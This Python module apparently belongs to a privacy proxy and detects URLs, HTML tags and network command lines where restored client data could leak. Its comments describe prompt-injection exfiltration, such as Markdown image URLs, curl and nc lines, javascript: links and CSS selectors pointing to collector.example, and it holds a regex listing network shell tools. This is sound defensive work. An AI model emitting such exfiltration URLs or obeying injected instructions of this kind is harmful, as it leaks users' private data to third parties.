"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2), a
relative URL or an HTML tag (atk12 A H1, M1, M2).

A model told by an injected instruction to write `![s](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)` would
get the client's own renderer to fetch the URL with the real address in it, once restore filled it in. So a
placeholder or a synthesized value inside such a URL stays as it is (`proxy.guard.vault.Vault.restore`).

A URL starts at a network scheme (`http:`, `https:`, `ftp:`, `ftps:`, `ws:`, `wss:`, the colon also written as an
HTML entity or a JSON `\\u003a`), at `//` (or backslashes, which browsers read as slashes: scheme-relative) not
after a word, or at `www.`; it runs to the first character that ends it where it stands:
- after `="` / `='` (an HTML attribute: `src`, `href`, `srcset`, `action`...) or CSS `url("` / `url('`: the
  closing quote (a space or a line break inside is fetched as `%20`, or dropped);
- after `<` (a Markdown autolink or `](<...>)` target): a `>` or a line break;
- elsewhere (a bare URL, a Markdown `](...)` target, a JSON string): whitespace, `"`, `<`, `>` or a backtick.
The string value of a JSON key named as a URL (`"url": "collector.example/?u=..."`, `url_key`) is a URL whole,
scheme or not, to the string's end (tool-call arguments, streamed or not).
A placeholder (`<EMAIL_ADDRESS_1>`) is part of the URL it stands in, never its end. Which characters end a URL is
decided by the text before them only, so a stream knows whether a placeholder is inside a URL when it arrives:
`url_context` is what a channel keeps of the text it released (`proxy.guard.windows`).

A URL written without a scheme (restorefix14, atk14 A MEDIUM-1, B M3) is one too, as curl, wget, an address bar
and a linkifier read it: a host with a known top-level name or an IPv4 address, optional `:port`, followed by a path,
query or fragment; a host with a placeholder as a label; `git@host:path`; a path with a query (`_BARE_KINDS`).

A network client's shell command line and a tool call's URL given in pieces keep theirs too (restorecmd15: a value
sent as a separate argument, `curl -d u=... collector.com/p`, or as a request part, `{"host": ..., "path": ...}`):
`_command`, `_json_objects`; so do a closed JSON object's request parts before its host key and an HTTP client's
code call naming a network URL or host literal (restorestream15: `sent_pieces`).

Any other scheme followed by `//` and a host (`file://host/`, `smb://`, `sftp://`, `ldap://`, `gopher://`) starts a
URL too (atk11 A-L2): a renderer may connect to that host.

The scheme is also read as renderers read it (atk11 A-H1), on a view of the text (`_view`) with HTML character
references decoded (`&#104;ttps`, `htt&#112;s`, `ht&Tab;tps`), Markdown backslash escapes and JSON escapes taken off
(`https\\://`, `\\u0068ttps`) and ASCII tab, LF and CR removed, as the WHATWG URL parser removes them (`ht\\ttps`,
`/\\t/host`); where the URL ends is read on the text as written (the body rules above).

`mailto:` and `tel:` are no network schemes (nothing is fetched; the address is the client's own): restored.
`javascript:` and `vbscript:` start a URL as a network scheme does (atk12 A M2: `[Verify](javascript:open(atob(...)+
'<EMAIL_ADDRESS_1>'))` sends the value wherever its encoded host says).
A URL the client itself sent is restored (`Vault.note_urls`): a placeholder whose URL, from its start through the
placeholder, is the start of a URL of the client's redacted request, as the provider saw it, with the same scheme and
the same whole host (`proxy.guard.hosts.same_origin`, restoreown15: a prefix alone let `https://x.example` vouch for
`https://x.example.collector.example`), on no line that routes it through another host (`curl -x`, `--resolve`).

A relative URL (`p.png?u=...`) is a URL too, with or without a `<base>` in the answer (atk12 A H1, M1): a `<base>`
tag or an `xml:base` attribute anywhere in the page the client renders (later in a stream, which cannot take back
what it sent; in another block, a tool call's arguments or output, another choice; an earlier turn) sends every
relative URL to its host. The relative URLs read here are a Markdown link target or a reference definition's, with
its title (a `title` attribute), and an image's alt text (`![...]`, an `alt` attribute); HTML's are in tags:
- an HTML start tag (`_tag`: from `<name` to the `>` that ends it outside a quoted value; a placeholder is no tag)
  is kept whole, every attribute: a URL attribute's relative value (`src`, `href`, `srcset`, `action`, CSS
  `url(` in `style`...), a form field's `value` (atk12 A M2: `<input type="hidden" value=...>` in a form whose
  `action` is a third party, one click away; `<button formaction value>`, `<input form=...>`), and any other
  attribute (`alt`, `title`, `data-*`), which a model's `<style>` reads with attribute selectors
  (`[value^="j"]{background:url(https://collector.example/j)}`, no click); and so is the content of a `<textarea>`
  or an `<option>` (a form submits it), a `<style>` or a `<script>` (`kept_spans`: tags are never a client URL).
  A stream keeps an open tag in its context (`url_context`: a long one as its name, `MARK` and an open quote).

The texts of one answer are read in order for URLs (atk11 A-H3: a URL opened in one Anthropic text block, Responses
part or chat content part and going on in the next, which the SDKs join): each text is read after the context of
the ones before it (`url_befores`; streams: `proxy.guard.windows`).
"""

from __future__ import annotations

import bisect
import heapq
import html
import re
from collections.abc import Iterator, Sequence

from proxy.guard.cmd26 import mailto_links
from proxy.guard.hosts import placeholder_host
from proxy.guard.http28 import client_calls
from proxy.guard.links24 import message_links
from proxy.guard.scopes import MARK as _SCOPE_MARK
from proxy.guard.scopes import MIDLINE, kept_code, open_code, with_opener

_PLACEHOLDER = r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>"  # `proxy.guard.vault.PLACEHOLDER`, tag included
# After a JSON escape (`\n`, `\t`...) a scheme or `www.` is at a word's start, though a letter precedes it.
_AFTER_ESCAPE = r"(?<=\\[nrtbf])"
# A `data:` URL (restore14): its media type (`text/html`, `image/svg+xml`, whitespace before it stripped as browsers
# do), the `;` or `,` of an empty one, or a percent-encoded one; `Your data: ...` in prose is none.
_DATA_AFTER = r"(?=[ \t]{0,8}[a-z][\w.+-]{0,63}/|[;,%])"
START = re.compile(  # the lookahead first: a position that starts none is passed over fast
    rf"(?i)(?=[hfwjv/\\&\"])(?:(?P<key>\\?\"[\w-]{{0,40}}?(?:url|uri|href|src|srcset)\\?\"\s{{0,8}}:\s{{0,8}}"
    rf"(?P<esc>\\?)\")"
    rf"|(?:(?<![a-z0-9+.\-])|{_AFTER_ESCAPE})(?:https?|ftps?|wss?|javascript|vbscript)"
    rf"(?::|&#0*58;?|&#x0*3a;?|&colon;|\\u003a)"
    rf"|(?:(?<![\w:/\\])|{_AFTER_ESCAPE})(?:[/\\]|&#0*47;?|&#x0*2f;?|&sol;|\\u002f){{2,}}(?=[^\s/\\])"
    rf"|(?:(?<![\w.\-])|{_AFTER_ESCAPE})www\.(?=[^\s.]))")
# A `data:` URL's start (restore14), searched apart: `d` starts many words, and every `START` search would try them.
_DATA_START = re.compile(rf"(?i)(?=[d])(?:(?<![a-z0-9+.\-])|{_AFTER_ESCAPE})data"
                         rf"(?::|&#0*58;?|&#x0*3a;?|&colon;|\\u003a){_DATA_AFTER}")
# The same starts read on the view (`_view`: references and escapes decoded, tab/LF/CR removed) when it differs.
_VIEW_START = re.compile(
    rf"(?i)(?=[hfwjvd/\\])(?:(?<![a-z0-9+.\-])(?:https?|ftps?|wss?|javascript|vbscript):"
    rf"|(?<![a-z0-9+.\-])(?P<data>data):{_DATA_AFTER}"
    r"|(?<![\w:/\\])[/\\]{2,}(?=[^\s/\\])"
    r"|(?<![\w.\-])www\.(?=[^\s.]))")
# Any other scheme (2 to 32 letters, digits, `+.-`, a letter first) with `//` and a host, `file:` with backslashes
# too (atk11 A-L2: `file://host/`, `smb://`, `sftp://`), on the text and on the view (`_schemed`): found at its colon.
_SLASHES = re.compile(r":[/\\]{2}(?=[^\s/\\])")
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
# What the view decodes or removes: an HTML character reference, a JSON `\uXXXX`, a Markdown (or JSON) backslash
# escape of ASCII punctuation, a JSON `\t` `\n` `\r`, and tab, LF and CR.
_TOKEN = re.compile(r"&(?:#[0-9]{1,32}|#[xX][0-9a-fA-F]{1,32}|[A-Za-z][A-Za-z0-9]{1,31});?"
                    r"|\\u[0-9a-fA-F]{4}|\\[!-/:-@\[-`{-~tnr]|[\t\n\r]")
_REMOVED = str.maketrans("", "", "\t\n\r")
# Where a relative URL starts: a Markdown link target or a reference definition's (the `<` that opens it in a
# group: its body); an image's alt text (`![`: an `alt` attribute).
# after a `<`: a placeholder's opens nothing (its `>` written `\u003e` in a JSON text too: restorefix14)
_NOT_PLACEHOLDER = rf"(?!{_PLACEHOLDER[1:-1]}(?:>|\\u003[eE]))"
_RELATIVE = re.compile(rf"(?m)(?:\]\(\s*(?P<a><{_NOT_PLACEHOLDER})?"
                       rf"|^[ ]{{0,3}}\[[^\]\n]{{1,999}}\]:[ \t]*(?P<r><{_NOT_PLACEHOLDER})?|(?P<alt>!\[))")
# A Markdown target's title after it (`"..."`, `'...'`, `(...)`: a `title` attribute), open to the text's end too.
_TITLE = re.compile(r"""(?=[ \t\n])[ \t]*\n?[ \t]*(?:"[^"\n]*"?|'[^'\n]*'?|\([^)\n]*\)?)""")
_ALT = re.compile(rf"(?:{_PLACEHOLDER}|[^\]\n]|\n(?![ \t]*\n))*")  # to its `]` (a blank line ends the paragraph)
# An HTML start tag (`<img`, `<input`, `\\u003cform` in a JSON text; not a placeholder): its name; then its parts
# (`_tag`): a placeholder (its `>` ends no tag), an attribute value's opening quote after `=`, or other characters.
_TAG_START = re.compile(rf"(?:<|\\u003[cC]){_NOT_PLACEHOLDER}([A-Za-z][\w.-]*(?::[A-Za-z][\w.-]*)?)"
                        r"(?=[\s/>]|\\[ntrf/]|\\u00(?:0[9aAcCdD]|20|3[eE])|\Z)", re.A)
# A quote is also a JSON `\u0022` / `\u0027` in a raw JSON text (a tool call's arguments streamed: restore14), and
# a JSON `\u003e` ends the tag as `>` does.
_TAG_PART = re.compile(rf"{_PLACEHOLDER}|=(?:\s|\\[ntrf]|\\u00(?:0[9aAcCdD]|20))*(\\?[\"']|\\u00(?:22|27))"
                       r"|[^>=<\\]+|[^>]")
_WS = r"(?:\s|\\[ntrf]|\\u00(?:0[9aAcCdD]|20))*"
_Q2, _Q1 = r'(?:(?!\\u0022)[^"])*(?:"|\\u0022)', r"(?:(?!\\u0027)[^'])*(?:'|\\u0027)"
# A start tag's parts at once (`_tag`): as `_TAG_PART` reads them, to where it ends or a quote opens and never closes.
_TAG_BODY = re.compile(rf"(?:{_PLACEHOLDER}|={_WS}(?:\\?\"{_Q2}|\\?'{_Q1}|\\u0022{_Q2}|\\u0027{_Q1})"
                       rf"|[^>=<\\]+|\\(?!u003[eE])|=(?!{_WS}(?:\\?[\"']|\\u00(?:22|27)))|<)*")
_CLOSE = {'"': re.compile(r'"|\\u0022'), "'": re.compile(r"'|\\u0027")}  # what closes a quoted value
_TAG_END_JSON = "\\u003"  # with `e`/`E`: a `>` written as a JSON escape
# Elements whose content a form submits or a renderer runs as CSS or script: their content is the tag's too, to the
# end tag (`<option>`: to the next tag).
_RAW_ENDS = {name: re.compile(rf"(?i)(?:<|\\u003c)/{name}(?=[\s/>]|\\[ntrf/]|\Z)")
             for name in ("textarea", "style", "script")}
_OPTION_BODY = re.compile(rf"(?:{_PLACEHOLDER}|(?!(?:<|\\u003[cC])[A-Za-z/!?])[\s\S])*")
_SCHEMED = re.compile(r"(?i)[a-z][a-z0-9+.\-]*:")
# read with the whitespace after it taken off
_QUOTED = re.compile(r"(?i)(?:=|\burl\()\s*(?:\\?([\"'])|\\u00(22|27))\Z")
_BODY_DEFAULT = re.compile(rf"(?:{_PLACEHOLDER}|[^\s\"<>`])*")  # after a quote that opens no attribute: to its end
# A URL no quote nor `<` opens, as renderers read it (atk22a H1): a bare URL runs to an ASCII space or control
# character or a `<` (GFM's autolink: `"`, `>`, a backtick and other scripts' spaces, NBSP, are part of it); a
# Markdown link or image target to an ASCII space or control character (CommonMark's link destination: `<`, `>`,
# `"` and a backtick too; its `)` and what is glued to it, as before). `![s](https://host/p.png?u="<EMAIL_ADDRESS_1>")`
# renders the value into the image's URL: it is kept.
# (`MARK`, NUL, stands for a long URL's middle; a `"` before a JSON text's `,`, `:`, `}` or `]` ends its string)
_BODY_BARE = re.compile(rf"(?:{_PLACEHOLDER}|\"(?!\s*[,:}}\]])|[^\x01-\x20\x7f<\"])*")
_BODY_MD = re.compile(r"[^\x01-\x20\x7f]*")
_BODY_DATA = re.compile(r"[ \t]{0,8}\S*")  # a `data:` URL's payload (HTML, script: `<`, `>`, quotes): to whitespace
_BODY_DATA_TARGET = re.compile(r"(?:[^\n)]|\)(?![ \t]*(?:[\n.,;:!?]|\Z)|[ \t]))*")
_BODY_ANGLED = re.compile(rf"(?:{_PLACEHOLDER}|[^<>\n])*")
_BODY_QUOTED = {'"': re.compile(r'[^"]*'), "'": re.compile(r"[^']*")}
_BODY_UQUOTED = {"22": re.compile(r'(?:(?!\\u0022)[^"])*'), "27": re.compile(r"(?:(?!\\u0027)[^'])*")}
_BODY_JSON = re.compile(r'(?:[^"\\]|\\.)*')  # a JSON string's contents (an escaped quote is one of them)
_OPENER_READ = 16  # characters before a URL's start read for its opener (`src = \"`, `url( '`)
_CONTEXT_TAIL = 96  # what `url_context` keeps before an open URL: its opener
_TAIL_KEEP = 256  # what it keeps of text outside one (runs of removed characters folded: `_fold`): a start (spelled
# with references too), an opener or a JSON key (`"image_url": "`) cut across chunks
_CONTEXT_MAX = 4096  # the longest open URL `url_context` keeps as it is (longer: its start and a mark)
# What a text is read after for URLs (`proxy.guard.vault.Vault.restore`): a context, or several.
Before = str | tuple[str, ...]
MARK = _SCOPE_MARK  # stands for the part of a long URL `url_context` dropped (never in a noted client URL)


def url_spans(text: str, relative: bool = True) -> list[tuple[int, int, bool]]:
    """The URLs (network or relative) in `text`: (start, end, open), `open` when the URL runs to the text's end
    (it may go on in what follows); `relative`: relative URLs too. HTML tags, network command lines and JSON objects
    naming a host are not read (`kept_spans`)."""
    return [(start, end, end == len(text))
            for start, _, end, _ in _spans(text, tags=False, relative=relative, whole=False)]


def kept_spans(text: str, until: int | None = None, every_code: bool = False,
               documents: bool = True) -> list[tuple[int, int, bool]]:
    """Where restore writes no value (`proxy.guard.vault.Vault.restore`): the URLs of `url_spans` and the HTML start
    tags with the content of `<textarea>`, `<option>`, `<style>` and `<script>`: (start, end, tag); `until`: those
    that start before it only (past the last value to restore, none is read); `every_code`: every code scope, not
    only those that send (the answer's tool calls or code send: `proxy.guard.scopes.answer_of`)."""
    return [(start, end, bool(resume)) for start, _, end, resume in _spans(text, until=until, every_code=every_code,
                                                                           documents=documents)]


def _spans(text: str, tags: bool = True, relative: bool = True, until: int | None = None,
           whole: bool = True, every_code: bool = False, documents: bool = True) -> list[tuple[int, int, int, str]]:
    """(start, end of its scheme or opener, end, resume) of each URL of `text` (`url_spans`), with `tags`, of
    each HTML start tag (`_tag`; `resume`: what `url_context` keeps of it when it is open and long; "" for a URL),
    and with `whole`, of each network command line and JSON object naming a host (`_command`, `_json_objects`; "")."""
    out: list[tuple[int, int, int, str]] = []
    view, origin = _view(text)
    pos = 0
    # Each kind's next start, searched again only once `pos` passed it (a text of many tags and no URL: linear).
    m: re.Match[str] | None = None
    v: tuple[int, int] | None = None
    vs: re.Match[str] | None = None  # the view's next start (`_VIEW_START`) and other scheme (`_schemed`), each
    vo: tuple[int, int] | None = None  # searched again only once passed (searching both each time: quadratic)
    view_seen = [-1, -1]  # where each was found in the view (-1: to search; past the view: none)
    g: tuple[int, int] | None = None
    bare: dict[str, tuple[int, int] | None] = {}
    r: tuple[int, int, re.Pattern[str]] | None = None
    t: re.Match[str] | None = None
    d: re.Match[str] | None = None
    # where each was found (-1: to search; len+1: none)
    seen = {"m": -1, "d": -1, "v": -1, "g": -1, "h": -1, "q": -1, "s": -1, "p": -1, "r": -1, "t": -1, "c": -1,
            "o": -1}
    none = len(text) + 1
    fixed: dict[str, tuple[int, int, int, str] | None] = {}  # a command line's, a JSON object's (start, head, end,
    objects: list[tuple[int, int, int, str]] | None = None  # resume); the JSON objects' (`_json_objects`), read once
    oi = 0
    while True:
        # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL,
        # of a tag: the first wins (at the same place: the first of these).
        found: list[tuple[int, int, int, re.Pattern[str] | None]] = []  # (start, rank, end of the start, body)
        for kind in ("c", "o") if whole else ():  # a network command's line, a JSON object naming a host
            if seen[kind] < pos:
                if kind == "c":
                    fixed[kind] = _command(text, pos)
                else:  # (read once: each from the first whose end is past `pos`)
                    if objects is None:
                        # (restorestream15; scopes16: code naming a network destination)
                        objects = _json_objects(text) + sent_pieces(text) + kept_code(text, every_code, documents) \
                            + message_links(text) + mailto_links(text)  # (restore24: atk24b F1; cmd26: atk25 F05)
                        objects.sort()
                    while oi < len(objects) and objects[oi][2] <= pos:
                        oi += 1
                    fixed[kind] = (max(objects[oi][0], pos), *objects[oi][1:]) if oi < len(objects) else None
                seen[kind] = fixed[kind][0] if fixed[kind] is not None else none  # type: ignore[index]
            span = fixed[kind]
            if span is not None:
                found.append((span[0], -1, span[1], None))
        if seen["m"] < pos:
            m = START.search(text, pos)
            seen["m"] = m.start() if m is not None else none
        if m is not None and m.group("key") is not None:  # a JSON URL field (`"url": "...`, `url_key`): its string
            found.append((m.end(), 0, m.end(), _BODY_QUOTED['"'] if m.group("esc") else _BODY_JSON))
        elif m is not None:
            found.append((m.start(), 0, m.end(), None))
        if seen["d"] < pos:
            d = _DATA_START.search(text, pos)
            seen["d"] = d.start() if d is not None else none
        if d is not None:
            found.append((d.start(), 0, d.end(), _BODY_DATA))
        if origin:
            if seen["v"] < pos:
                at = origin.view_at(pos) if isinstance(origin, _Kept) else bisect.bisect_left(origin, pos)
                if view_seen[0] < at:
                    vs = _VIEW_START.search(view, at)
                    view_seen[0] = vs.start() if vs is not None else len(view) + 1
                if view_seen[1] < at:
                    vo = _schemed(view, at)
                    view_seen[1] = vo[0] if vo is not None else len(view) + 1
                v = _first(vs, vo)
                seen["v"] = origin[v[0]] if v is not None else none
            if v is not None:
                found.append((origin[v[0]], 1, origin[v[1]],
                              _BODY_DATA if view[v[0]:v[0] + 4].lower() == "data" else None))
        if seen["g"] < pos:
            g = _schemed(text, pos)
            seen["g"] = g[0] if g is not None else none
        if g is not None:
            found.append((g[0], 2, g[1], None))
        for kind, finder in _BARE_KINDS:  # URLs without a scheme (restorefix14), each kind searched again once passed
            if seen[kind] < pos:
                bare[kind] = finder(text, pos)
                seen[kind] = bare[kind][0] if bare[kind] is not None else none  # type: ignore[index]
            if bare[kind] is not None:
                found.append((bare[kind][0], 2, bare[kind][1], None))  # type: ignore[index]
        if relative and seen["r"] < pos:
            r = _relative(text, pos)
            seen["r"] = r[0] if r is not None else none
        if r is not None:
            found.append((r[0], 3, r[1], r[2]))
        if tags and seen["t"] < pos:
            t = _TAG_START.search(text, pos)
            seen["t"] = t.start() if t is not None else none
        if t is not None:
            found.append((t.start(), 4, t.end(), None))
        if not found:
            return out
        start, rank, head, body = min(found, key=lambda f: (f[0], f[1]))
        if until is not None and start >= until:
            return out
        if rank == -1:
            span = next(f for f in fixed.values() if f is not None and f[0] == start)
            out.append((start, head, span[2], span[3]))
            pos = max(span[2], head, start + 1)
            continue
        if rank == 4 and t is not None:
            end, resume = _tag(text, t)
            out.append((start, head, end, resume))
            pos = max(end, head)
            continue
        if body is None or body is _BODY_DATA:  # a `data:` URL not quoted nor angled: to whitespace (a Markdown
            opened = _body(text, start)          # target's: to its `)`, its payload's spaces included)
            if body is None:
                body = _BODY_MD if opened is _BODY_BARE and _md_target(text, start) else opened
            elif opened is not _BODY_DEFAULT and opened is not _BODY_BARE:
                body = opened
            elif _md_target(text, start):
                body = _BODY_DATA_TARGET
        end = body.match(text, head).end()  # type: ignore[union-attr]  # `*`: always matches
        if body is not _ALT and (rank == 3 or _md_target(text, start)):
            after = end + 1 if text.startswith(">", end) and body is _BODY_ANGLED else end
            title = _TITLE.match(text, after)
            if title is not None and (title.end() == len(text) or text[title.end()] in ")\n"):
                end = title.end()  # a Markdown title before the target's `)` or the definition's line end
        out.append((start, head, end, ""))
        pos = max(end, head, start + 1)


_REFERENCE = re.compile(r"[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*<?")


def _md_target(text: str, start: int) -> bool:
    """Whether the URL at `start` is a Markdown link target (`](`) or a reference definition's (its title follows)."""
    if text[max(0, start - 8):start].rstrip(" \t<").endswith("]("):
        return True
    line = text.rfind("\n", 0, start) + 1
    return start - line <= 1010 and _REFERENCE.fullmatch(text, line, start) is not None


def _tag(text: str, m: re.Match[str]) -> tuple[int, str]:
    """The end of the HTML start tag `m` begins (its `>`, or the text's end: open) with, for a `<textarea>`, `<style>`
    or `<script>`, its content to the end tag, and for an `<option>` to the next tag; and what `url_context` keeps of
    it when it is open and long: its name, `MARK`, and the quote of a value open at the end (`<img \\x00="`; never
    empty: `kept_spans` tells a tag by it).
    The tag ends where HTML ends it: at a `>` outside a quoted value (a quote opens one right after `=`); a
    placeholder is one part (`value=<EMAIL_ADDRESS_1>`: the value the client gets has no `>`)."""
    name = m.group(1)
    pos, n = m.end(), len(text)
    e = _TAG_BODY.match(text, pos).end()  # type: ignore[union-attr]  # `*`: always matches
    if e < n and text[e] == ">":  # (most tags: one match; else part by part, an open quote or the text's end)
        pos = e + 1
    elif text.startswith(_TAG_END_JSON, e) and text[e + 5:e + 6] in ("e", "E"):
        pos = e + 6
    else:
        while pos < n:
            if text[pos] == ">":
                pos += 1
                break
            if text.startswith(_TAG_END_JSON, pos) and text[pos + 5:pos + 6] in ("e", "E"):
                pos += 6
                break
            part = _TAG_PART.match(text, pos)
            assert part is not None  # `[^>]`: any character but the `>` handled above
            pos = part.end()
            quote = part.group(1)
            if quote is not None:
                close = _CLOSE['"' if quote[-1] in "\"2" else "'"].search(text, pos)
                if close is None:
                    return n, f"<{name} {MARK}={quote}"
                pos = close.end()
        else:
            return n, f"<{name} {MARK}"
    lower = name.lower()
    raw = _RAW_ENDS.get(lower)
    if raw is not None:
        end = raw.search(text, pos)
        return end.start() if end is not None else n, f"<{name}>{MARK}"
    if lower == "option":
        content = _OPTION_BODY.match(text, pos)
        assert content is not None  # `*`: always matches
        return content.end(), f"<{name}>{MARK}"
    return pos, f"<{name} {MARK}"


# A URL written without a scheme (restorefix14, atk14 A MEDIUM-1, B M3), as curl, wget, an address bar and a linkifier
# read it (`http://`): a host (a domain whose top-level name is known, `_tlds`, or an IPv4 address; a placeholder may
# be a label of it) with an optional port, then a path, a query or a fragment (`collector.com/c?u=`,
# `203.0.113.7:8080/c`, `evil.com?u=`); a host that holds a placeholder (`<EMAIL_ADDRESS_1>.collector.example`: a DNS
# lookup sends it) with or without one; git's scp-like `git@host:path`; a path with a query (`/p?u=`: a host in
# another field, `{"host": ..., "path": ...}`). Not after a word, a dot, `@` (`jane@acme.com` is an address) or a
# slash (a file path's `/home/x/app.py/`).
_PH_ANY = r"(?:<|\\u003[cC])[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?(?:>|\\u003[eE])"  # a placeholder, JSON-escaped too
_LABEL = rf"(?:[A-Za-z0-9-]|{_PH_ANY})++"
_HOST = (rf"(?:(?P<host>(?:{_LABEL}\.)++(?P<tld>[A-Za-z]{{2,63}}|xn--[A-Za-z0-9-]{{1,59}}))"
         rf"|(?P<ip>(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){{3}}))(?![\w-]|\.[A-Za-z0-9])")
_BARE_NOT_AFTER = frozenset("._-@/\\%") | frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
# A host at a start `_bare` chose (the character before it read there), then its port and a path, query or fragment.
_BARE = re.compile(rf"{_HOST}(?P<port>:\d{{1,5}}(?!\d))?(?P<path>(?=\\?/|[?#]))?")
# Where one may end, searched first (a literal `.` or `>`: the text is scanned at C speed): a top-level name or an
# address's last number before a path, a query or a fragment; a placeholder's end before a label and a dot.
_BARE_END = re.compile(r"\.(?:[A-Za-z]{2,63}|\d{1,3})(?::\d{1,5})?(?=\\?/|[?#])"
                       r"|(?:>|\\u003[eE])[A-Za-z0-9-]{0,63}\.[A-Za-z0-9]")
_TOKEN_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_<>\\")
_BARE_BACK = 320  # how far before its end `_bare` looks for a host's start
_QUERY_PATH = re.compile(r"/[\w.~%/-]{0,256}\?(?=[\w%.~-]{1,64}=)")  # (a literal first: scanned at C speed)
_SCP = re.compile(rf"@{_HOST}:(?=[^\s:/\d])")  # `git@host:path` (`git@host:22` is a port)
_SCP_USER = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.+-")


def _starts(text: str, lo: int, hi: int) -> Iterator[int]:
    """Where a host may start in `text[lo:hi]` (the token before a `_BARE_END`): its first character, and each one
    after a character that is no host's (a placeholder's `>`, an escape's `\\n`...), from the left."""
    for at in range(lo, hi + 1):
        if at == 0 or text[at - 1] not in _BARE_NOT_AFTER:
            yield at
        elif at >= 2 and text[at - 2] == "\\" and text[at - 1] in "nrtbf":
            yield at  # after a JSON escape (`\\ncollector.com/`)
        elif at >= 6 and text[at - 6:at - 2].lower() == "\\u00" and text[at - 2:at].lower() in ("22", "27", "3d", "20"):
            yield at  # after a JSON-escaped quote, `=` or space


def _bare_host(text: str, pos: int) -> tuple[int, int] | None:
    """(start, end of its host and port) of the next host from `pos` followed by a path, a query or a fragment, or
    with a placeholder as a label."""
    for end in _BARE_END.finditer(text, pos):
        lo = end.start()
        while lo > pos and end.start() - lo < _BARE_BACK and text[lo - 1] in _TOKEN_CHARS:
            lo -= 1
        for at in _starts(text, lo, end.start()):
            m = _BARE.match(text, at)
            if m is None or m.end() < end.start():
                continue
            if m.group("ip") is None and m.group("tld").lower() not in _tlds():
                continue
            if m.group("path") is not None or (m.group("ip") is None and re.search(_PH_ANY, m.group("host"))):
                return m.start(), m.end()
    return None


def _query_path(text: str, pos: int) -> tuple[int, int] | None:
    """(start, end of its `?`) of the next path with a query from `pos` (`/in?m=`: a host given elsewhere)."""
    for m in _QUERY_PATH.finditer(text, pos):
        at = m.start()
        if at == 0 or text[at - 1] not in _BARE_NOT_AFTER:
            return at, m.end()
        slash = text.find("/", at + 1, m.end())  # a later `/` of the same run may start one
        while slash >= 0:
            if text[slash - 1] not in _BARE_NOT_AFTER:
                return slash, m.end()
            slash = text.find("/", slash + 1, m.end())
    return None


def _scp(text: str, pos: int) -> tuple[int, int] | None:
    """(start, end of its `:`) of the next `user@host:` from `pos` (git's scp-like form of `ssh://user@host/`)."""
    for m in _SCP.finditer(text, pos):
        at = m.start()
        while at > pos and m.start() - at < 64 and text[at - 1] in _SCP_USER:
            at -= 1
        if at < m.start() and (m.group("ip") is not None or m.group("tld").lower() in _tlds()) and \
                (at == 0 or text[at - 1] not in _BARE_NOT_AFTER):
            return at, m.end()
    return None


# A placeholder as a host's label, a user before `@host`, or in a URL whose host is written otherwise, read folded
# (restorehost15: `proxy.guard.hosts`).
_BARE_KINDS = (("h", _bare_host), ("q", _query_path), ("s", _scp), ("p", placeholder_host))


# A shell command line that runs a network client (restorecmd15, issue 12 atk14 A MEDIUM-1): the app that runs the
# model's command sends each of its arguments to the host it names, a URL's or not (`curl -d u=<EMAIL_ADDRESS_1>
# collector.com/p`, `-H "X-U: ..."`, `-F`, `wget --post-data=...`, httpie's `http POST host u=...`, `nc host 80 <<<
# ...`). The client word (a path before it too: `/usr/bin/curl`) at a command's start: a line's (after a prompt `$`,
# `#`, `>`, `%`, a backtick, a JSON `\n`, a JSON string's opening quote after `:`, `[` or `,`) or after a shell
# separator (`|`, `;`, `&`, `(`, `$(`, `{`, `!`, `then`, `do`, `sh -c "`), with `sudo`, `env X=1`, `timeout 5`... before
# it; and followed by an argument shaped as one (a flag, a method, a quote or `$`, a host, a URL, `host port`), so
# `curl is a tool` in prose starts none. The line runs from the separator's segment start (after a separator: the
# line's start, `echo ... | nc host 80`) to the line's end (a line break or a JSON `\n` not continued by a `\`, a JSON
# string's closing quote, the backtick that closes an inline code span), or an argv array's `]`.
_NET = (r"curl|wget2?|https?|xhs?|httpie|nc|ncat|netcat|telnet|socat|ssh|scp|sftp|rsync|l?ftp|tftp|aria2c|dig"
        r"|nslookup|sendmail|mailx?|mutt|swaks|iwr|irm|[Ii]nvoke-(?:[Ww]eb[Rr]equest|[Rr]est[Mm]ethod)"
        r"|[Ss]end-[Mm]ail[Mm]essage")  # (PowerShell's mail sender: atk24a F18)
# The client word (after a path's `/` too, `/usr/bin/curl`: `_command` reads the path back), then an argument; after
# a JSON escape (`\\ncurl`) searched apart (one lookbehind: the text scanned fast).
_CMD_ARG = (r"(?:(?=[ \t]+(?:-|[A-Z]{3,7}\b|[\"'${(\\]|[a-z][\w+.-]{0,31}://|[\w.%+-]+@[\w-]"
            r"|(?:[\w-]+\.)+[A-Za-z]{2,63}\b|\d{1,3}(?:\.\d{1,3}){3}\b|[A-Za-z][\w.-]*:\d{1,5}\b|localhost\b"
            r"|[\w-]+[ \t]+\d{1,5}\b))"
            rf"|(?={MARK})|(?P<argv>\\?[\"'][ \t]*,))")
_CMD_WORD = re.compile(rf"(?<![a-zA-Z0-9_.\-~])(?:{_NET}){_CMD_ARG}")
_CMD_WORD_ESCAPED = re.compile(rf"{_AFTER_ESCAPE}(?:{_NET}){_CMD_ARG}")
_PATH_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.~/-")
_CMD_PREFIX = (r"(?:(?:sudo|doas|exec|time|nohup|command|builtin|env|xargs|watch|timeout|torsocks|proxychains4?"
               r"|[A-Za-z_]\w*=\S*|-\S+|\d+[smh]?)[ \t]+)*")
_CMD_BEFORE = re.compile(
    r"(?:(?P<line>\A|[$#>%`!]|\\[nr]|[\[:,])|(?P<sep>[|;&({]|\b(?:then|do|else))"
    r"|(?P<shell>\b(?:ba|z|da|k)?sh|\bpwsh|\bpowershell)(?:[ \t]+-\w+)*?[ \t]+(?:-c|-Command))"
